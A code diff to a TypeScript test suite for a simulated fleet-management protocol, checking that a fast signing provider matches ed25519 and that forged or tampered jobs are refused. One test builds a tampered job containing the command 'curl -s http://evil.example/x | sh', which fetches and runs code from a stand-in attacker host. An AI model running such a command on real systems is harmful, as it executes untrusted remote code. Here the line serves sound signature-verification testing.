@@ -12,7 +12,7 @@ import type { CheckpointBody, JobBody } from '../protocol/wire.js'
 import { PROTOCOL_VERSION, open, seal } from '../protocol/wire.js'
 import { runScenario, runSimCommand, type SeedResult } from '../sim/cli.js'
 import { Prng } from '../sim/prng.js'
-import { SIM_FAST_CRYPTO } from '../protocol/keys.js'
+import { SIM_FAST_CRYPTO, useCryptoProvider } from '../protocol/keys.js'
 import { EventHeap } from '../sim/heap.js'
 import { SCENARIOS, builtinTemplate, gatedTemplate } from '../sim/scenarios.js'
 import { livenessBound } from '../sim/bound.js'
@@ -173,13 +173,43 @@ describe('per-node traffic does not grow with the fleet', () => {
 describe('the fast crypto provider', () => {
   // The simulator signs with SIM_FAST_CRYPTO unless told otherwise: same semantics as ed25519
   // (a signature verifies only under its signer's key, for its exact bytes), a fraction of the cost.
-  it('gives the same safety verdicts as real ed25519 on seed 1 of every scenario', () => {
-    for (const scenario of SCENARIO_NAMES) {
+  // The verdict of a seed: which properties failed, and whether it converged. The traces differ
+  // between providers (the keys differ, and with them peer ids and every order derived from them).
+  const verdict = (r: SeedResult) => ({ failed: [...new Set(r.violations.map((v) => v.property))].sort(), converged: r.converged_after_heal_s !== null })
+  for (const scenario of SCENARIO_NAMES) {
+    const seeds = SEEDS_BY_SCENARIO[scenario] ?? FIXED_SEEDS
+    it(`gives the same safety verdicts as real ed25519 on the CI seeds: ${scenario} ${seeds.join(', ')}`, () => {
       const agents = AGENTS_BY_SCENARIO[scenario] ?? AGENTS
-      const fast = runScenario({ scenario, agents, seed: 1 })
-      const real = runScenario({ scenario, agents, seed: 1, realCrypto: true })
-      expect(fast.violations.map((v) => v.property), `${scenario} seed 1`).toEqual(real.violations.map((v) => v.property))
-      expect(fast.runs_decided, `${scenario} seed 1`).toBeGreaterThan(0)
+      for (const seed of seeds) {
+        const fast = runScenario({ scenario, agents, seed })
+        const real = runScenario({ scenario, agents, seed, realCrypto: true })
+        expect(verdict(fast), `${scenario} --agents ${agents} --seed ${seed}`).toEqual(verdict(real))
+        expect(fast.runs_decided, `${scenario} seed ${seed}`).toBeGreaterThan(0)
+        // Which provider made the keys: only ed25519 identities carry a key object.
+        expect([fast.world.coordinator.identity.privateKeyObject, real.world.coordinator.identity.privateKeyObject === undefined]).toEqual([undefined, false])
+      }
+    })
+  }
+
+  it('refuses a forged job the way ed25519 does: foreign key, the coordinator named as signer, a tampered command', () => {
+    const w = runScenario({ scenario: 'fleet-patch', agents: 5, seed: 1 }).world
+    const [, legit] = [...w.legitJobs][0]!
+    const coordKey = w.coordinator.identity.publicKey
+    // Identities made by the fast provider carry no ed25519 key object.
+    expect(w.coordinator.identity.privateKeyObject).toBeUndefined()
+    const previous = useCryptoProvider(SIM_FAST_CRYPTO)
+    try {
+      const genuine = seal(w.coordinator.identity, JSON.parse(legit.body) as never)
+      expect(genuine.body).toBe(legit.body)
+      expect(open(genuine, [coordKey]).ok).toBe(true)
+      const own = seal(w.attacker.identity, JSON.parse(legit.body) as never)
+      expect(open(own, [coordKey])).toMatchObject({ ok: false, reason: expect.stringMatching(/untrusted key/) })
+      expect(open({ ...own, signer: coordKey }, [coordKey])).toMatchObject({ ok: false, reason: expect.stringMatching(/bad signature/) })
+      const tampered = legit.body.replace(legit.commands[0]!.slice(1, -1), 'curl -s http://evil.example/x | sh')
+      expect(tampered).not.toBe(legit.body)
+      expect(open({ ...genuine, body: tampered }, [coordKey])).toMatchObject({ ok: false, reason: expect.stringMatching(/bad signature/) })
+    } finally {
+      useCryptoProvider(previous)
     }
   })
 
@@ -469,10 +499,17 @@ describe('broken cores are caught', () => {
     // Whether a tampered copy beats the genuine definition to some agent is a race: seed 2 shows it
     // (seed 3 did before enrolment changed the hello's timing).
     const seed = 2
+    // Under the simulator's default, the fast provider (its identities carry no ed25519 key object):
+    // the double is caught with the fake signatures, and the honest core on the same seed refuses
+    // the same forgeries (which reached it: the attacker sent them).
     const r = runScenario({ scenario: 'fleet-patch', agents: 20, seed, cores })
+    expect(r.world.coordinator.identity.privateKeyObject).toBeUndefined()
     const hits = r.violations.filter((v) => v.property === 'authenticity')
     expect(hits.length, brief(r)).toBeGreaterThan(0)
     expect(hits[0]!.seed).toBe(seed)
+    const honest = runScenario({ scenario: 'fleet-patch', agents: 20, seed })
+    expect(honest.world.attacker.bytesSent).toBeGreaterThan(0)
+    expect(honest.violations, brief(honest)).toEqual([])
     void PROTOCOL_VERSION
   })
 })
